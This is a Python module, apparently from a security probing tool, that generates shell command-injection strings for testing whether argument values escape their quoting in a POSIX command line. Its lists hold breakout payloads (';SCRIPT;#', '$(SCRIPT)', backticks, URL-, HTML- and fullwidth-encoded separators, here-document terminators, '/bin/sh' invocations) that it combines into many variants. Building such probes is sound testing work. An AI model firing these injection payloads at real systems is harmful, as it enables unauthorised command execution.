"""Texts that leave their place in a command line for a POSIX shell.

The words CMD, PLAIN, QUIET, SCRIPT and TOOL stand for commands of a marker (`markers.runs` puts them in): any, one
without a slash, one without quotes or `;&|<>`, one of letters, digits and slashes, one of letters only. A program is
started for each try, so
the first texts leave quotes of every kind at once, and what each leaves behind is a comment.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from probes.grammars import evasions, placeholders
from probes.grammars.ranked import in_turn, ranked

#: Leave every kind of quote, one after the other.
_EVERYWHERE = (
    "{};SCRIPT;#';SCRIPT;#\";SCRIPT;#",
    "{}$(SCRIPT)",
    "{}\nSCRIPT\n'\nSCRIPT\n\"\nSCRIPT\n",
    "{}`SCRIPT`",
    "{}\\';SCRIPT;#\\\";SCRIPT;#",
    # A backslash that takes the effect of the next one, and no blank.
    "{}\\;TOOL",
    "{}|SCRIPT",
    # Decoded behind the quoting.
    "{}%27;SCRIPT;%23%22;SCRIPT;%23",
    "{}&#39;;SCRIPT;#&quot;;SCRIPT;#",
    "{}\n/bin/sh\tPATH\n'\n/bin/sh\tPATH\n\"\n/bin/sh\tPATH\n",
    "{}\nTOOL",
    # Read by a template of `re.sub`.
    "{}\\047;SCRIPT;#\\042;SCRIPT;#",
    "{};TOOL;",
    "{}\n/bin/sh\tPATH\n",
    "{}&SCRIPT",
    "{}$(QUIET)",
    "{}'\"'\"';SCRIPT;#",
    "{}'\\'';SCRIPT;#\"\\\"\";SCRIPT;#",
    "{}\\\\';SCRIPT;#\\\\\";SCRIPT;#",
    "{}'$(SCRIPT)'",
    '{}"$(SCRIPT)"',
    "{});SCRIPT;#');SCRIPT;#\");SCRIPT;#",
    "{};PLAIN;#';PLAIN;#\";PLAIN;#",
    '{}";SCRIPT;"',
    "{}';SCRIPT;'",
    "{}\\$(SCRIPT)",
    "{}\\`SCRIPT\\`",
    '{}"\nSCRIPT\n"',
    "{}'\nSCRIPT\n'",
)
#: Signs that a later step turns into those of a shell.
_DECODED = (
    "{}%0aSCRIPT%0a",
    "{}\uff1bSCRIPT\uff1b\uff03",
    "{}\uff04\uff08SCRIPT\uff09",
    "{}%3BSCRIPT%3B%23",
    "{}&#59;SCRIPT&#59;",
    "{}\\nSCRIPT\\n",
    "{}\uff07\uff1bSCRIPT\uff1b\uff03",
    "{}%24(CMD)",
    "{}\\x3bSCRIPT\\x3b",
)
_OPENERS = (("", "'", '"'), ("\\", "\\'", '\\"', "')", '")'))
_SEPARATORS = (("\n", ";"), ("|", "&", "$(", "`", "&&", "||", "\r\n", ">(", "<("))
_BLANKS = ((" ",), ("\t", "<", "${IFS}"))
_CLOSERS = {"$(": ")", "`": "`", ">(": ")", "<(": ")"}


def texts(ordinary: str) -> Iterator[str]:
    """Texts for one argument, around a value that is usual there."""
    everywhere = [one.format(ordinary) for one in _EVERYWHERE]
    yield from (*everywhere[:4], "\nTOOL")
    yield from in_turn(
        everywhere[4:],
        _by_the_source(ordinary, everywhere[0]),
        in_turn(
            (other for payload in everywhere[:4] for other in evasions.evading(payload) if other != payload),
            (one.format(ordinary) for one in _DECODED),
            (one.format("") for one in _EVERYWHERE[:9]),
            _alone(ordinary),
        ),
    )


def _by_the_source(ordinary: str, payload: str) -> Iterator[str]:
    """Lines that end a here-document of the source, and texts that are longer than what it looks at."""
    if ends := here_documents():
        yield f"{ordinary}\n" + "".join(f"{end}\nSCRIPT\n" for end in ends)
        # The line break in front of it may be the template's.
        yield from (f"{end}\nSCRIPT\n" for end in ends[:2])
        yield f"{ordinary}\n" + "".join(f"{end}\n)\";SCRIPT;#\nSCRIPT\n" for end in ends)
    for length in evasions.lengths()[-2:]:
        yield (ordinary * length)[:length] + payload
        yield payload + "x" * length
    yield f"\nTOOL\n{ordinary}"
    # What begins so may be left as it is.
    for word in [word for word in evasions.words() if not re.search(r"[\w\s]", word)][:3]:
        yield word + payload


def here_documents() -> list[str]:
    """Words of the source at which a here-document may end."""
    found: list[str] = []
    for text in evasions.texts():
        found += re.findall(r"<<-?\s*\W?(\w+)", text)
        found += re.findall(r"(?m)^\s*(\w{2,32})\s*$", text)
    return list(dict.fromkeys(found))[:12]


def _alone(ordinary: str) -> Iterator[str]:
    """One way out in each text, in few kinds of signs."""
    for opener, separator, blank in ranked(_OPENERS, _SEPARATORS, _BLANKS):
        command = f"/bin/sh{blank}PATH"
        close = _CLOSERS.get(separator, separator if separator in "\n;" else "")
        quote = opener[-1:] if opener[-1:] in "'\"" else ""
        yield f"{ordinary}{opener}{separator}{command}{close}{quote}"


def lists(ordinary: Sequence[str]) -> Iterator[list[str]]:
    """Values of one list that make a command together, behind ordinary ones."""
    fields = placeholders.pairs(ordinary[0], (";SCRIPT;#",))
    yield from in_turn(_joined(ordinary), ([*ordinary, *both] for both in fields))


def _joined(ordinary: Sequence[str]) -> Iterator[list[str]]:
    for end in ("\n", ";", "|", "&", "\\", "'", '"', "$(", "`", "\\\n", "\r\n", " \n"):
        yield [*ordinary, f"{ordinary[0]}{end}", "/bin/sh", "PATH"]
        if end in "\\'\"":
            yield [*ordinary, f"{ordinary[0]}{end}", ";SCRIPT;#"]
            yield [*ordinary, f"{ordinary[0]}{end}", f"{end}\nSCRIPT\n#"]
    yield [*ordinary, "\n/bin/sh", "PATH"]
    yield [*ordinary, "SCRIPT"]
